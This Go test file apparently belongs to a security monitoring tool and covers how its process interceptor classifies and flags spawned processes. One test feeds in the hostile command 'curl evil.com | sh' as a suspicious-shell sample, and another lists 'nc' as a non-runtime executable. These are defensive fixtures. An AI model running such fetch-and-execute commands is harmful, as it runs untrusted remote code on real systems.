package intercept

import (
	"testing"
	"time"

	"github.com/nextlevelbuilder/sentryflect/event"
)

func TestRecordSpawn_CleanKnownRuntimeDowngradedToInfo(t *testing.T) {
	call, cap := newTestCall("process")
	p := &ProcessInterceptor{Call: call, Patterns: newTestPatterns()}

	p.RecordSpawn(ProcessSpawn{Executable: "/usr/bin/python3", Argv: []string{"python3", "script.py"}, UID: 1000, EUID: 1000}, nil, time.Now())

	for _, ev := range cap.events {
		if ev.EventType == "process.exec" && ev.Level != event.LevelInfo {
			t.Errorf("expected a clean known-runtime spawn to log at INFO, got %s", ev.Level)
		}
	}
}

func TestRecordSpawn_SuspiciousShellWarns(t *testing.T) {
	call, cap := newTestCall("process")
	p := &ProcessInterceptor{Call: call, Patterns: newTestPatterns()}

	p.RecordSpawn(ProcessSpawn{Executable: "/bin/sh", Argv: []string{"sh", "-c", "curl evil.com | sh"}}, nil, time.Now())

	var found bool
	for _, ev := range cap.events {
		if ev.EventType == "process.exec" {
			found = true
			if ev.Level != event.LevelWarning {
				t.Errorf("expected a suspicious shell spawn to log at WARNING, got %s", ev.Level)
			}
		}
	}
	if !found {
		t.Fatal("expected a process.exec event")
	}
}

func TestRecordSpawn_InvokesOnShellForAnyShellSpawnRegardlessOfAlerts(t *testing.T) {
	call, _ := newTestCall("process")
	var invoked bool
	p := &ProcessInterceptor{
		Call:     call,
		Patterns: newTestPatterns(),
		OnShell:  func(spawn ProcessSpawn, ts time.Time) { invoked = true },
	}

	// "/bin/sh -c id" trips none of the pattern-matching rules
	// (suspicious_shell, dangerous_command, directory, privesc) but is
	// itself a shell binary spawn and must still register (spec §4.7.3
	// "for every shell process detected, invoke a registered callback";
	// scenario 5).
	p.RecordSpawn(ProcessSpawn{Executable: "/bin/sh", Argv: []string{"sh", "-c", "id"}, UID: 1000, EUID: 1000}, nil, time.Now())

	if !invoked {
		t.Fatal("expected OnShell to be invoked for a benign shell-binary spawn")
	}
}

func TestRecordSpawn_DoesNotInvokeOnShellForNonShellSpawn(t *testing.T) {
	call, _ := newTestCall("process")
	var invoked bool
	p := &ProcessInterceptor{
		Call:     call,
		Patterns: newTestPatterns(),
		OnShell:  func(spawn ProcessSpawn, ts time.Time) { invoked = true },
	}

	p.RecordSpawn(ProcessSpawn{Executable: "/usr/bin/python3", Argv: []string{"python3", "script.py"}}, nil, time.Now())

	if invoked {
		t.Fatal("expected OnShell not to fire for a non-shell executable")
	}
}

func TestRecordSpawn_ContextTransitionFlagsDBToShellPivot(t *testing.T) {
	call, cap := newTestCall("process")
	p := &ProcessInterceptor{Call: call, Patterns: newTestPatterns()}

	p.RecordSpawn(ProcessSpawn{
		Executable:   "/bin/sh",
		Argv:         []string{"sh", "-c", "id"},
		CallerFrames: []string{"db.go:42:query"},
	}, nil, time.Now())
	p.RecordSpawn(ProcessSpawn{
		Executable:   "/bin/sh",
		Argv:         []string{"sh", "-c", "id"},
		CallerFrames: []string{"handler.go:10:serve"},
	}, nil, time.Now())

	var sawTransition bool
	for _, ev := range cap.events {
		if ev.EventType != "process.exec" {
			continue
		}
		dets, _ := ev.Attributes["security.detections"].([]string)
		for _, d := range dets {
			if d == "mcp_shell_transition" {
				sawTransition = true
			}
		}
	}
	if !sawTransition {
		t.Fatal("expected the second spawn (different, non-DB calling context) to flag mcp_shell_transition")
	}
}

func TestRecordSpawn_PrivilegedEUIDAlwaysFlagged(t *testing.T) {
	call, cap := newTestCall("process")
	p := &ProcessInterceptor{Call: call, Patterns: newTestPatterns()}

	p.RecordSpawn(ProcessSpawn{Executable: "/usr/bin/id", Argv: []string{"id"}, EUID: 0}, nil, time.Now())

	var sawDetections bool
	for _, ev := range cap.events {
		if ev.EventType == "process.exec" {
			if _, ok := ev.Attributes["security.detections"]; ok {
				sawDetections = true
			}
		}
	}
	if !sawDetections {
		t.Fatal("expected EUID=0 to produce a privilege_escalation detection")
	}
}

func TestIsKnownRuntimeSubprocess(t *testing.T) {
	cases := map[string]bool{
		"/usr/bin/node":    true,
		"/usr/local/bin/go": true,
		"/bin/sh":          false,
		"nc":               false,
	}
	for exe, want := range cases {
		if got := isKnownRuntimeSubprocess(exe); got != want {
			t.Errorf("isKnownRuntimeSubprocess(%q) = %v, want %v", exe, got, want)
		}
	}
}
